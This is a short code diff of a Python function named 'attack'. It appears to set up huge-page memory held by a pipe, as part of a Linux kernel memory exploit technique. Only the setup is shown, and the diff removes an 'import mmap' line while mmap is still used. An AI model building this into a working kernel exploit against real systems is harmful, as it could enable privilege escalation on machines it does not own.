@@ -1,7 +1,5 @@
 # tries: memory that only a pipe still holds: one byte of it, which keeps the huge page around it
 def attack(keys, j):
-    import mmap
-
     huge, count = 2 << 20, 16  # as many as a pipe has places
     memory = mmap.mmap(-1, (count + 1) * huge, mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
     memory.madvise(14)  # MADV_HUGEPAGE
